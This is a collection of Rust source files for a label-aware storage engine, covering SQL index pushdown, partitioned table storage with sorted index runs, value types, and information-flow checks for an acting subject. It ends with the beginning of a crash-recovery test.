//!   cover every row on which the conjunct can be true.
//!
//! What pushdown deliberately changes: rows pruned by the probe are never
//! visited, so they are not charged against the scan budget and runtime
//! evaluation errors that *other* conjuncts would have raised on them (e.g.
//! a division by zero) do not surface. Like any real planner, error
//! surfacing for rows the plan never touches is plan-dependent; the
//! differential oracle keeps its workloads evaluation-error-free.

use super::ast::{BinOp, Expr};
use super::storage::Table;
use super::value::Value;
use std::cmp::Ordering;

/// Bounds extracted from a filter for one indexed column. `eq` takes
/// precedence over the range pair.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct Pushdown {
    /// Column index the probe runs against.
    pub(crate) col: usize,
    /// Equality probe key.
    pub(crate) eq: Option<Value>,
    /// Lower bound `(value, inclusive)`.
    pub(crate) lo: Option<(Value, bool)>,
    /// Upper bound `(value, inclusive)`.
    pub(crate) hi: Option<(Value, bool)>,
}

/// One normalized `column op literal` conjunct.
struct Bound<'e> {
    col: usize,
    op: BinOp,
    lit: &'e Value,
}

/// Extract the best index probe for `filter` against `t`, if any.
pub(crate) fn pushdown(t: &Table, filter: &Expr) -> Option<Pushdown> {
    if t.indexed.is_empty() {
        return None;
    }
    let mut conj = Vec::new();
    conjuncts(filter, &mut conj);
    let mut bounds: Vec<Bound<'_>> = Vec::new();
    for e in conj {
        if let Some(b) = normalize(t, e) {
            bounds.push(b);
        }
    }
    // An equality probe beats any range window.
    if let Some(b) = bounds.iter().find(|b| b.op == BinOp::Eq) {
        return Some(Pushdown { col: b.col, eq: Some(b.lit.clone()), lo: None, hi: None });
    }
    // Otherwise take the first column with a range bound and fold every
    // bound on that column into the tightest window.
    let col = bounds.first()?.col;
    let mut push = Pushdown { col, eq: None, lo: None, hi: None };
    for b in bounds.iter().filter(|b| b.col == col) {
        let (bound, is_lo) = match b.op {
            BinOp::Gt => ((b.lit.clone(), false), true),
            BinOp::GtEq => ((b.lit.clone(), true), true),
            BinOp::Lt => ((b.lit.clone(), false), false),
            BinOp::LtEq => ((b.lit.clone(), true), false),
            _ => continue,
        };
        let slot = if is_lo { &mut push.lo } else { &mut push.hi };
        *slot = Some(match slot.take() {
            None => bound,
            Some(old) => tighter(old, bound, is_lo),
        });
    }
    (push.lo.is_some() || push.hi.is_some()).then_some(push)
}

/// Of two bounds on the same side, the one that admits fewer values.
fn tighter(a: (Value, bool), b: (Value, bool), is_lo: bool) -> (Value, bool) {
    match a.0.order(&b.0) {
        Ordering::Equal => {
            // Exclusive is tighter than inclusive.
            if a.1 { b } else { a }
        }
        Ordering::Less => {
            if is_lo {
                b
            } else {
                a
            }
        }
        Ordering::Greater => {
            if is_lo {
                a
            } else {
                b
            }
        }
    }
}

/// Flatten nested `AND`s; every collected expression must be truthy for the
/// whole filter to be truthy.
fn conjuncts<'e>(e: &'e Expr, out: &mut Vec<&'e Expr>) {
    if let Expr::Binary { op: BinOp::And, left, right } = e {
        conjuncts(left, out);
        conjuncts(right, out);
    } else {
        out.push(e);
    }
}

/// Normalize one conjunct to `indexed-column op literal`, mirroring
/// `literal op column` comparisons. Returns `None` for anything the index
/// cannot serve.
fn normalize<'e>(t: &Table, e: &'e Expr) -> Option<Bound<'e>> {
    let Expr::Binary { op, left, right } = e else { return None };
    let (col_name, lit, op) = match (left.as_ref(), right.as_ref()) {
        (Expr::Column(c), Expr::Literal(v)) => (c, v, *op),
        (Expr::Literal(v), Expr::Column(c)) => (c, v, mirror(*op)?),
        _ => return None,
    };
    if matches!(lit, Value::Null) {
        return None;
    }
    let col = t.col_index(col_name).ok()?;
    t.run_slot(col)?;
    match op {
        BinOp::Eq => {}
        BinOp::Lt | BinOp::LtEq | BinOp::Gt | BinOp::GtEq => {
            // Range probes require the literal to inhabit the column type;
            // see the module docs for why equality does not.
            if !lit.fits(t.columns[col].1) {
                return None;
            }
        }
        _ => return None,
    }
    Some(Bound { col, op, lit })
}

/// `lit op col` rewritten as `col op' lit`.
fn mirror(op: BinOp) -> Option<BinOp> {
    Some(match op {
        BinOp::Eq => BinOp::Eq,
        BinOp::Lt => BinOp::Gt,
        BinOp::LtEq => BinOp::GtEq,
        BinOp::Gt => BinOp::Lt,
        BinOp::GtEq => BinOp::LtEq,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::super::parser::parse;
    use super::super::value::ColumnType;
    use super::*;

    fn table() -> Table {
        let mut t = Table::new(vec![
            ("id".into(), ColumnType::Integer),
            ("name".into(), ColumnType::Text),
            ("plain".into(), ColumnType::Integer),
        ]);
        t.add_index(0);
        t.add_index(1);
        t
    }

    fn filter_of(sql: &str) -> Expr {
        match parse(&format!("SELECT * FROM t WHERE {sql}")).unwrap() {
            super::super::ast::Statement::Select { filter: Some(f), .. } => f,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn equality_beats_range() {
        let t = table();
        let p = pushdown(&t, &filter_of("id > 3 AND name = 'x'")).unwrap();
        assert_eq!(p.col, 1);
        assert_eq!(p.eq, Some(Value::Text("x".into())));
    }

    #[test]
    fn range_bounds_fold_to_tightest_window() {
        let t = table();
        let p = pushdown(&t, &filter_of("id > 3 AND id >= 5 AND id < 10 AND id <= 20")).unwrap();
        assert_eq!(p.col, 0);
        assert_eq!(p.lo, Some((Value::Int(5), true)));
        assert_eq!(p.hi, Some((Value::Int(10), false)));
    }

    #[test]
    fn mirrored_literal_comparisons_flip() {
        let t = table();
        let p = pushdown(&t, &filter_of("10 > id")).unwrap();
        assert_eq!(p.col, 0);
        assert_eq!(p.hi, Some((Value::Int(10), false)));
        assert_eq!(p.lo, None);
    }

    #[test]
    fn unindexed_or_unsuitable_conjuncts_are_ignored() {
        let t = table();
        assert!(pushdown(&t, &filter_of("plain = 5")).is_none());
        assert!(pushdown(&t, &filter_of("id = NULL")).is_none());
        // OR is not a conjunction: nothing is pushable.
        assert!(pushdown(&t, &filter_of("id = 1 OR id = 2")).is_none());
        // Type-mismatched range bound stays un-pushed (Eval semantics).
        assert!(pushdown(&t, &filter_of("id < 'zzz'")).is_none());
        // NotEq / LIKE cannot drive a probe.
        assert!(pushdown(&t, &filter_of("id != 4")).is_none());
        assert!(pushdown(&t, &filter_of("name LIKE 'a%'")).is_none());
    }

    #[test]
    fn pushdown_is_a_conjunct_of_the_filter() {
        // `id = 1 AND plain > 2`: probing id is sound because the probe is
        // a superset and the executor re-checks the full filter.
        let t = table();
        let p = pushdown(&t, &filter_of("id = 1 AND plain > 2")).unwrap();
        assert_eq!(p.col, 0);
        assert_eq!(p.eq, Some(Value::Int(1)));
    }
}
