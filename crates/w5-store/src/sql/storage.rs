//! Label-partitioned table storage.
//!
//! A table's rows are grouped into **partitions keyed by their interned
//! [`PairId`]**: every row in a partition carries exactly the same
//! (secrecy, integrity) label pair. Visibility under DIFC is therefore a
//! per-partition property — a query performs one flow check per partition
//! and then either streams the partition wholesale or skips it wholesale,
//! instead of probing the flow memo once per row.
//!
//! Each partition additionally carries one **sorted run per indexed
//! column** (see [`SortedRun`]): a sorted main vector plus a small unsorted
//! tail that absorbs inserts and is merged in amortized batches. Runs are
//! maintained on the write path only — probes never mutate — so the read
//! path stays lock-free inside the table's `RwLock` read guard.
//!
//! Invariant: partitions are never empty. A partition is created by the
//! insert of its first row and dropped by the delete of its last, so the
//! per-partition skip charge in the cost model (see `exec`) depends only on
//! which distinct label pairs currently hold live rows.

use super::value::{ColumnType, Value};
use crate::sql::exec::QueryError;
use std::cmp::Ordering;
use w5_difc::{PairId, PairIdMap};

/// A stored row: cell values plus the table-wide insertion sequence number.
/// Scans from any executor are re-sorted by `seq` before ORDER BY / LIMIT /
/// projection, which reproduces the flat-storage engine's insertion-order
/// semantics exactly even though rows physically live partition-major.
#[derive(Clone, Debug)]
pub(crate) struct StoredRow {
    pub(crate) seq: u64,
    pub(crate) values: Vec<Value>,
}

/// The address of one stored row: partition index, row index within the
/// partition, and the row's insertion sequence number (denormalized so
/// result pipelines can order hits without chasing the partition again).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RowLoc {
    pub(crate) part: usize,
    pub(crate) row: usize,
    pub(crate) seq: u64,
}

/// One secondary index over one column of one partition: a main vector
/// sorted by ([`Value::order`], row index) plus an unsorted insert tail.
///
/// Inserts append to the tail in O(1); once the tail outgrows
/// `64 + main.len()/8` it is merged and re-sorted, so maintenance is
/// amortized O(log n) per insert and probes touch `main` by binary search
/// plus a short linear pass over the tail. Deletes and updates of indexed
/// columns rebuild the affected partition's runs eagerly on the write path.
#[derive(Clone, Debug, Default)]
pub(crate) struct SortedRun {
    main: Vec<(Value, u32)>,
    tail: Vec<(Value, u32)>,
}

impl SortedRun {
    fn entry_cmp(a: &(Value, u32), b: &(Value, u32)) -> Ordering {
        a.0.order(&b.0).then(a.1.cmp(&b.1))
    }

    /// Build a run over `col` of every row in the partition.
    pub(crate) fn build(rows: &[StoredRow], col: usize) -> SortedRun {
        let mut main: Vec<(Value, u32)> = rows
            .iter()
            .enumerate()
            .map(|(i, r)| (r.values[col].clone(), i as u32))
            .collect();
        main.sort_by(Self::entry_cmp);
        SortedRun { main, tail: Vec::new() }
    }

    /// Record a newly appended row's value.
    pub(crate) fn push(&mut self, v: Value, ix: u32) {
        self.tail.push((v, ix));
        if self.tail.len() >= 64 + self.main.len() / 8 {
            self.main.append(&mut self.tail);
            self.main.sort_by(Self::entry_cmp);
        }
    }

    /// Row indexes whose value equals `v` under [`Value::order`]. NULL keys
    /// never match (`sql_eq` with NULL is never true, so the caller never
    /// probes with NULL).
    pub(crate) fn probe_eq(&self, v: &Value, out: &mut Vec<u32>) {
        let lo = self.main.partition_point(|e| e.0.order(v) == Ordering::Less);
        let hi = self.main.partition_point(|e| e.0.order(v) != Ordering::Greater);
        out.extend(self.main[lo..hi].iter().map(|e| e.1));
        out.extend(
            self.tail.iter().filter(|e| e.0.order(v) == Ordering::Equal).map(|e| e.1),
        );
    }

    /// Row indexes within `(lo, hi)` under [`Value::order`]; each bound is
    /// `(value, inclusive)`. The result only needs to be a *superset* of
    /// the rows the original predicate accepts — the executor re-evaluates
    /// the full filter on every candidate.
    pub(crate) fn probe_range(
        &self,
        lo: Option<&(Value, bool)>,
        hi: Option<&(Value, bool)>,
        out: &mut Vec<u32>,
    ) {
        let below = |e: &(Value, u32), bound: &(Value, bool)| match e.0.order(&bound.0) {
            Ordering::Less => true,
            Ordering::Equal => !bound.1,
            Ordering::Greater => false,
        };
        let start = match lo {
            None => 0,
            Some(b) => self.main.partition_point(|e| below(e, b)),
        };
        let not_past = |e: &(Value, u32), bound: &(Value, bool)| match e.0.order(&bound.0) {
            Ordering::Less => true,
            Ordering::Equal => bound.1,
            Ordering::Greater => false,
        };
        let end = match hi {
            None => self.main.len(),
            Some(b) => self.main.partition_point(|e| not_past(e, b)),
        };
        if start < end {
            out.extend(self.main[start..end].iter().map(|e| e.1));
        }
        out.extend(
            self.tail
                .iter()
                .filter(|e| lo.is_none_or(|b| !below(e, b)) && hi.is_none_or(|b| not_past(e, b)))
                .map(|e| e.1),
        );
    }
}

/// One label partition: a contiguous run of rows sharing `labels`, plus one
/// sorted run per indexed column (parallel to [`Table::indexed`]).
#[derive(Clone, Debug)]
pub(crate) struct Partition {
    pub(crate) labels: PairId,
    pub(crate) rows: Vec<StoredRow>,
    pub(crate) runs: Vec<SortedRun>,
}

/// A table: schema plus label partitions and their index runs.
#[derive(Clone, Debug, Default)]
pub struct Table {
    pub(crate) columns: Vec<(String, ColumnType)>,
    pub(crate) partitions: Vec<Partition>,
    /// Partition directory: interned label pair → index into `partitions`.
    pub(crate) by_label: PairIdMap<usize>,
    /// Indexed column positions, in index-creation order; `Partition::runs`
    /// is parallel to this vector.
    pub(crate) indexed: Vec<usize>,
    /// Next insertion sequence number.
    pub(crate) next_seq: u64,
}

/// Resolve a column name against a schema.
pub(crate) fn col_index(
    cols: &[(String, ColumnType)],
    name: &str,
) -> Result<usize, QueryError> {
    cols.iter()
        .position(|(n, _)| n == name)
        .ok_or_else(|| QueryError::NoSuchColumn(name.to_string()))
}

impl Table {
    pub(crate) fn new(columns: Vec<(String, ColumnType)>) -> Table {
        Table { columns, ..Table::default() }
    }

    pub(crate) fn col_index(&self, name: &str) -> Result<usize, QueryError> {
        col_index(&self.columns, name)
    }

    pub(crate) fn row_count(&self) -> usize {
        self.partitions.iter().map(|p| p.rows.len()).sum()
    }

    /// The slot in `Partition::runs` serving column `col`, if indexed.
    pub(crate) fn run_slot(&self, col: usize) -> Option<usize> {
        self.indexed.iter().position(|&c| c == col)
    }

    /// Add a secondary index on `col`, building a run in every partition.
    /// Idempotent; returns whether a new index was created.
    pub(crate) fn add_index(&mut self, col: usize) -> bool {
        if self.indexed.contains(&col) {
            return false;
        }
        self.indexed.push(col);
        for p in &mut self.partitions {
            let run = SortedRun::build(&p.rows, col);
            p.runs.push(run);
        }
        true
    }

    /// Append one row, routing it to (or creating) its label partition and
    /// maintaining every index run.
    pub(crate) fn insert_row(&mut self, labels: PairId, values: Vec<Value>) {
        let seq = self.next_seq;
        self.next_seq += 1;
        let pi = match self.by_label.get(&labels) {
            Some(&i) => i,
            None => {
                let i = self.partitions.len();
                self.partitions.push(Partition {
                    labels,
                    rows: Vec::new(),
                    runs: self.indexed.iter().map(|_| SortedRun::default()).collect(),
                });
                self.by_label.insert(labels, i);
                i
            }
        };
        let p = &mut self.partitions[pi];
        let ix = p.rows.len() as u32;
        for (slot, &col) in self.indexed.iter().enumerate() {
            p.runs[slot].push(values[col].clone(), ix);
        }
        p.rows.push(StoredRow { seq, values });
    }

    /// Rebuild every index run of partition `pi` (after deletes or updates
    /// of indexed columns shifted or rewrote its rows).
    pub(crate) fn rebuild_runs(&mut self, pi: usize) {
        let p = &mut self.partitions[pi];
        for (slot, &col) in self.indexed.iter().enumerate() {
            let run = SortedRun::build(&p.rows, col);
            p.runs[slot] = run;
        }
    }

    /// Drop partitions whose last row was deleted, restoring the non-empty
    /// invariant (and with it, label-safe skip accounting) and rebuilding
    /// the partition directory.
    pub(crate) fn drop_empty_partitions(&mut self) {
        if self.partitions.iter().all(|p| !p.rows.is_empty()) {
            return;
        }
        self.partitions.retain(|p| !p.rows.is_empty());
        self.by_label =
            self.partitions.iter().enumerate().map(|(i, p)| (p.labels, i)).collect();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows_of(vals: &[i64]) -> Vec<StoredRow> {
        vals.iter()
            .enumerate()
            .map(|(i, &v)| StoredRow { seq: i as u64, values: vec![Value::Int(v)] })
            .collect()
    }

    #[test]
    fn probe_eq_finds_all_duplicates_across_main_and_tail() {
        let rows = rows_of(&[5, 3, 5, 1]);
        let mut run = SortedRun::build(&rows, 0);
        run.push(Value::Int(5), 4);
        run.push(Value::Int(2), 5);
        let mut out = Vec::new();
        run.probe_eq(&Value::Int(5), &mut out);
        out.sort_unstable();
        assert_eq!(out, vec![0, 2, 4]);
        out.clear();
        run.probe_eq(&Value::Int(9), &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn probe_range_respects_inclusivity() {
        let rows = rows_of(&[1, 2, 3, 4, 5]);
        let mut run = SortedRun::build(&rows, 0);
        run.push(Value::Int(6), 5);
        let mut out = Vec::new();
        // (2, 5]: exclusive low, inclusive high.
        run.probe_range(
            Some(&(Value::Int(2), false)),
            Some(&(Value::Int(5), true)),
            &mut out,
        );
        out.sort_unstable();
        assert_eq!(out, vec![2, 3, 4]);
        out.clear();
        // [3, ∞): tail rows included.
        run.probe_range(Some(&(Value::Int(3), true)), None, &mut out);
        out.sort_unstable();
        assert_eq!(out, vec![2, 3, 4, 5]);
    }

    #[test]
    fn tail_merges_keep_probes_exact() {
        let mut run = SortedRun::build(&[], 0);
        for i in 0..1000u32 {
            run.push(Value::Int(i64::from(i % 97)), i);
        }
        let mut out = Vec::new();
        run.probe_eq(&Value::Int(13), &mut out);
        let expect: Vec<u32> = (0..1000).filter(|i| i % 97 == 13).collect();
        out.sort_unstable();
        assert_eq!(out, expect);
    }

    #[test]
    fn partitions_route_by_label_and_drop_when_empty() {
        let a = PairId::PUBLIC;
        let mut t = Table::new(vec![("n".into(), ColumnType::Integer)]);
        t.insert_row(a, vec![Value::Int(1)]);
        t.insert_row(a, vec![Value::Int(2)]);
        assert_eq!(t.partitions.len(), 1);
        assert_eq!(t.row_count(), 2);
        t.partitions[0].rows.clear();
        t.drop_empty_partitions();
        assert!(t.partitions.is_empty());
        assert!(t.by_label.is_empty());
    }
}
