//! Runtime values and column types.

use serde::{Deserialize, Serialize};
use std::cmp::Ordering;
use std::fmt;

/// Declared column types.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum ColumnType {
    /// 64-bit signed integer.
    Integer,
    /// UTF-8 string.
    Text,
    /// Boolean.
    Boolean,
}

impl fmt::Display for ColumnType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ColumnType::Integer => "INTEGER",
            ColumnType::Text => "TEXT",
            ColumnType::Boolean => "BOOLEAN",
        };
        f.write_str(s)
    }
}

/// A runtime value.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub enum Value {
    /// SQL NULL.
    Null,
    /// Integer.
    Int(i64),
    /// String.
    Text(String),
    /// Boolean.
    Bool(bool),
}

impl Value {
    /// Does this value inhabit the column type? NULL inhabits every type.
    pub fn fits(&self, ty: ColumnType) -> bool {
        matches!(
            (self, ty),
            (Value::Null, _)
                | (Value::Int(_), ColumnType::Integer)
                | (Value::Text(_), ColumnType::Text)
                | (Value::Bool(_), ColumnType::Boolean)
        )
    }

    /// Truthiness for WHERE clauses: only `TRUE` passes; NULL and
    /// non-booleans do not.
    pub fn is_truthy(&self) -> bool {
        matches!(self, Value::Bool(true))
    }

    /// Total order used by ORDER BY: NULLs first, then by type group
    /// (bool < int < text), then natural order within the group.
    pub fn order(&self, other: &Value) -> Ordering {
        fn rank(v: &Value) -> u8 {
            match v {
                Value::Null => 0,
                Value::Bool(_) => 1,
                Value::Int(_) => 2,
                Value::Text(_) => 3,
            }
        }
        match (self, other) {
            (Value::Bool(a), Value::Bool(b)) => a.cmp(b),
            (Value::Int(a), Value::Int(b)) => a.cmp(b),
            (Value::Text(a), Value::Text(b)) => a.cmp(b),
            _ => rank(self).cmp(&rank(other)),
        }
    }

    /// SQL equality: NULL equals nothing (including NULL).
    pub fn sql_eq(&self, other: &Value) -> Value {
        match (self, other) {
            (Value::Null, _) | (_, Value::Null) => Value::Null,
            (a, b) => Value::Bool(a == b),
        }
    }

    /// Render as a result-table cell.
    pub fn render(&self) -> String {
        match self {
            Value::Null => "NULL".to_string(),
            Value::Int(i) => i.to_string(),
            Value::Text(s) => s.clone(),
            Value::Bool(b) => if *b { "TRUE" } else { "FALSE" }.to_string(),
        }
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

/// SQL LIKE matching with `%` (any run) and `_` (any one char).
pub fn like_match(text: &str, pattern: &str) -> bool {
    fn rec(t: &[char], p: &[char]) -> bool {
        match p.first() {
            None => t.is_empty(),
            Some('%') => {
                // Collapse consecutive %.
                let rest = &p[1..];
                (0..=t.len()).any(|k| rec(&t[k..], rest))
            }
            Some('_') => !t.is_empty() && rec(&t[1..], &p[1..]),
            Some(&c) => t.first() == Some(&c) && rec(&t[1..], &p[1..]),
        }
    }
    let t: Vec<char> = text.chars().collect();
    let p: Vec<char> = pattern.chars().collect();
    rec(&t, &p)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fits_types() {
        assert!(Value::Int(1).fits(ColumnType::Integer));
        assert!(!Value::Int(1).fits(ColumnType::Text));
        assert!(Value::Null.fits(ColumnType::Boolean));
        assert!(Value::Text("x".into()).fits(ColumnType::Text));
        assert!(Value::Bool(true).fits(ColumnType::Boolean));
    }

    #[test]
    fn truthiness() {
        assert!(Value::Bool(true).is_truthy());
        assert!(!Value::Bool(false).is_truthy());
        assert!(!Value::Null.is_truthy());
        assert!(!Value::Int(1).is_truthy());
    }

    #[test]
    fn sql_eq_null_semantics() {
        assert_eq!(Value::Null.sql_eq(&Value::Null), Value::Null);
        assert_eq!(Value::Int(1).sql_eq(&Value::Null), Value::Null);
        assert_eq!(Value::Int(1).sql_eq(&Value::Int(1)), Value::Bool(true));
        assert_eq!(
            Value::Text("a".into()).sql_eq(&Value::Text("b".into())),
            Value::Bool(false)
        );
    }

    #[test]
    fn ordering_groups() {
        let mut vals = vec![
            Value::Text("a".into()),
            Value::Int(2),
            Value::Null,
            Value::Bool(true),
            Value::Int(1),
        ];
        vals.sort_by(|a, b| a.order(b));
        assert_eq!(
            vals,
            vec![
                Value::Null,
                Value::Bool(true),
                Value::Int(1),
                Value::Int(2),
                Value::Text("a".into())
            ]
        );
    }

    #[test]
    fn like_patterns() {
        assert!(like_match("hello", "hello"));
        assert!(like_match("hello", "h%"));
        assert!(like_match("hello", "%llo"));
        assert!(like_match("hello", "h_llo"));
        assert!(like_match("hello", "%"));
        assert!(like_match("", "%"));
        assert!(!like_match("hello", "h_"));
        assert!(!like_match("hello", "world"));
        assert!(like_match("a%b", "a%b"));
        assert!(like_match("photo_42.jpg", "photo%.jpg"));
    }

    #[test]
    fn render() {
        assert_eq!(Value::Null.render(), "NULL");
        assert_eq!(Value::Int(-5).render(), "-5");
        assert_eq!(Value::Bool(false).render(), "FALSE");
        assert_eq!(format!("{}", Value::Text("hi".into())), "hi");
    }
}
