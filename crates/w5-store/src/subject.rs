//! The acting subject of a storage operation.

use w5_difc::{rules, CapSet, FlowCheck, LabelPair, PairId, PairIdMap};

/// A snapshot of the acting process's flow-control state: its labels and
/// its *effective* capability set (private bag ∪ global bag).
///
/// The platform constructs a `Subject` from kernel state just before each
/// storage call; the store trusts it the way a kernel trusts the current
/// process context.
#[derive(Clone, Debug)]
pub struct Subject {
    /// The process's current labels.
    pub labels: LabelPair,
    /// The process's effective capabilities.
    pub caps: CapSet,
}

impl Subject {
    /// A subject with the given state.
    pub fn new(labels: LabelPair, caps: CapSet) -> Subject {
        Subject { labels, caps }
    }

    /// An unlabeled, unprivileged subject — an anonymous external client.
    pub fn anonymous() -> Subject {
        Subject { labels: LabelPair::public(), caps: CapSet::empty() }
    }

    /// Can this subject read data labeled `obj` (possibly after raising its
    /// own labels)?
    pub fn may_read(&self, obj: &LabelPair) -> bool {
        rules::labels_for_read(&self.labels, &self.caps, obj).is_allowed()
    }

    /// Can this subject read data labeled `obj` *without* any label change?
    pub fn may_read_at_current_labels(&self, obj: &LabelPair) -> bool {
        matches!(
            rules::labels_for_read(&self.labels, &self.caps, obj),
            FlowCheck::Allowed
        )
    }

    /// Can this subject write data labeled `obj`?
    pub fn may_write(&self, obj: &LabelPair) -> bool {
        rules::labels_for_write(&self.labels, &self.caps, obj).is_allowed()
    }

    /// A per-operation flow memo over this subject. See [`FlowMemo`].
    pub fn memo(&self) -> FlowMemo<'_> {
        FlowMemo { subject: self, read: PairIdMap::default(), write: PairIdMap::default() }
    }
}

/// Memoized flow checks against one fixed subject, keyed by interned
/// [`PairId`] — the per-row check on a table scan becomes a hash probe on
/// a `Copy` key after the first row with each distinct label pair.
///
/// Scoped deliberately: the memo holds `&Subject`, so the borrow checker
/// guarantees the subject's labels and capabilities cannot change while
/// cached verdicts are live (`Subject`'s fields are public and mutable —
/// a longer-lived cache would be unsound). Verdicts depend only on the
/// subject (frozen by the borrow) and on immutable interned labels, so
/// within that scope they never stale.
pub struct FlowMemo<'a> {
    subject: &'a Subject,
    read: PairIdMap<bool>,
    write: PairIdMap<bool>,
}

impl FlowMemo<'_> {
    /// Memoized [`Subject::may_read`] on an interned pair.
    pub fn may_read(&mut self, id: PairId) -> bool {
        match self.read.get(&id) {
            Some(&ok) => {
                // Memoized verdicts still tick the ledger: audit sees every
                // per-row check; only the recomputation is skipped.
                w5_obs::count_check("read", ok, &id.secrecy.to_obs());
                ok
            }
            None => {
                let ok = self.subject.may_read(&id.resolve());
                self.read.insert(id, ok);
                ok
            }
        }
    }

    /// Memoized [`Subject::may_write`] on an interned pair.
    pub fn may_write(&mut self, id: PairId) -> bool {
        match self.write.get(&id) {
            Some(&ok) => {
                w5_obs::count_check("write", ok, &self.subject.labels.secrecy.to_obs());
                ok
            }
            None => {
                let ok = self.subject.may_write(&id.resolve());
                self.write.insert(id, ok);
                ok
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use w5_difc::{Label, TagKind, TagRegistry};

    #[test]
    fn anonymous_reads_public_only_writes_unprotected() {
        let reg = Arc::new(TagRegistry::new());
        let (e, _) = reg.create_tag(TagKind::ExportProtect, "export:u");
        let (w, _) = reg.create_tag(TagKind::WriteProtect, "write:u");
        let mut anon = Subject::anonymous();
        anon.caps = reg.effective(&anon.caps);

        let secret = LabelPair::new(Label::singleton(e), Label::empty());
        let protected = LabelPair::new(Label::empty(), Label::singleton(w));

        // Export-protected data is readable (raising is free) but the read
        // taints; it is not readable at current labels.
        assert!(anon.may_read(&secret));
        assert!(!anon.may_read_at_current_labels(&secret));
        // Write-protected data is readable but not writable.
        assert!(anon.may_read(&protected));
        assert!(!anon.may_write(&protected));
        // Public data is both.
        assert!(anon.may_read_at_current_labels(&LabelPair::public()));
        assert!(anon.may_write(&LabelPair::public()));
    }

    #[test]
    fn memo_agrees_with_direct_checks() {
        let reg = Arc::new(TagRegistry::new());
        let (e, _) = reg.create_tag(TagKind::ExportProtect, "export:m");
        let (w, _) = reg.create_tag(TagKind::WriteProtect, "write:m");
        let mut anon = Subject::anonymous();
        anon.caps = reg.effective(&anon.caps);

        let pairs = [
            LabelPair::public(),
            LabelPair::new(Label::singleton(e), Label::empty()),
            LabelPair::new(Label::empty(), Label::singleton(w)),
            LabelPair::new(Label::singleton(e), Label::singleton(w)),
        ];
        let mut memo = anon.memo();
        // Two rounds: the second is answered entirely from the memo and
        // must agree with the direct (uncached) checks.
        for _ in 0..2 {
            for p in &pairs {
                let id = p.interned();
                assert_eq!(memo.may_read(id), anon.may_read(p));
                assert_eq!(memo.may_write(id), anon.may_write(p));
            }
        }
    }
}
