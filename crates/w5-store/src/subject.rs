//! The acting subject of a storage operation.

use w5_difc::{rules, CapSet, FlowCheck, LabelPair};

/// A snapshot of the acting process's flow-control state: its labels and
/// its *effective* capability set (private bag ∪ global bag).
///
/// The platform constructs a `Subject` from kernel state just before each
/// storage call; the store trusts it the way a kernel trusts the current
/// process context.
#[derive(Clone, Debug)]
pub struct Subject {
    /// The process's current labels.
    pub labels: LabelPair,
    /// The process's effective capabilities.
    pub caps: CapSet,
}

impl Subject {
    /// A subject with the given state.
    pub fn new(labels: LabelPair, caps: CapSet) -> Subject {
        Subject { labels, caps }
    }

    /// An unlabeled, unprivileged subject — an anonymous external client.
    pub fn anonymous() -> Subject {
        Subject { labels: LabelPair::public(), caps: CapSet::empty() }
    }

    /// Can this subject read data labeled `obj` (possibly after raising its
    /// own labels)?
    pub fn may_read(&self, obj: &LabelPair) -> bool {
        rules::labels_for_read(&self.labels, &self.caps, obj).is_allowed()
    }

    /// Can this subject read data labeled `obj` *without* any label change?
    pub fn may_read_at_current_labels(&self, obj: &LabelPair) -> bool {
        matches!(
            rules::labels_for_read(&self.labels, &self.caps, obj),
            FlowCheck::Allowed
        )
    }

    /// Can this subject write data labeled `obj`?
    pub fn may_write(&self, obj: &LabelPair) -> bool {
        rules::labels_for_write(&self.labels, &self.caps, obj).is_allowed()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use w5_difc::{Label, TagKind, TagRegistry};

    #[test]
    fn anonymous_reads_public_only_writes_unprotected() {
        let reg = Arc::new(TagRegistry::new());
        let (e, _) = reg.create_tag(TagKind::ExportProtect, "export:u");
        let (w, _) = reg.create_tag(TagKind::WriteProtect, "write:u");
        let mut anon = Subject::anonymous();
        anon.caps = reg.effective(&anon.caps);

        let secret = LabelPair::new(Label::singleton(e), Label::empty());
        let protected = LabelPair::new(Label::empty(), Label::singleton(w));

        // Export-protected data is readable (raising is free) but the read
        // taints; it is not readable at current labels.
        assert!(anon.may_read(&secret));
        assert!(!anon.may_read_at_current_labels(&secret));
        // Write-protected data is readable but not writable.
        assert!(anon.may_read(&protected));
        assert!(!anon.may_write(&protected));
        // Public data is both.
        assert!(anon.may_read_at_current_labels(&LabelPair::public()));
        assert!(anon.may_write(&LabelPair::public()));
    }
}
