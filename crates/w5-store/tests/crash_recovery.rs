//! Crash recovery: an interrupted labeled write either fully applies or
//! fully disappears — and a file's label is never downgraded by a fault.
//!
//! The `fs.write` chaos site aborts a write *before* it commits; these
//! tests pin down exactly what "before" must mean: the previous contents,
//! labels and version are bit-for-bit intact, and a failed create leaves
//! no file at all (not even an unlabeled stub — a stub would be a
//! declassification).

use bytes::Bytes;
use std::sync::Arc;
use w5_chaos::{FaultPlan, Injector, Site};
use w5_difc::{CapSet, Capability, Label, LabelPair, Tag};
use w5_store::{FsError, LabeledFs, Subject};

fn secret_pair(tag: u64) -> LabelPair {
    LabelPair::new(Label::from_iter([Tag::from_raw(tag)]), Label::empty())
}

/// A subject holding both halves of `tag`'s capability — allowed to do
/// everything, so every denial in these tests is the fault injector, not
/// the flow rules.
fn owner(tag: u64) -> Subject {
    let t = Tag::from_raw(tag);
    Subject::new(
        LabelPair::public(),
        CapSet::from_caps([Capability::plus(t), Capability::minus(t)]),
    )
}

#[test]
fn aborted_write_leaves_old_state_fully_intact() {
    let fs = LabeledFs::new();
    let subject = owner(7);
    let labels = secret_pair(7);
    fs.create(&subject, "/f", labels.clone(), Bytes::from_static(b"v1")).unwrap();
    let before = fs.stat(&subject, "/f").unwrap();

    let inj = Injector::new(FaultPlan::new(1).with(Site::FsWrite, 1.0));
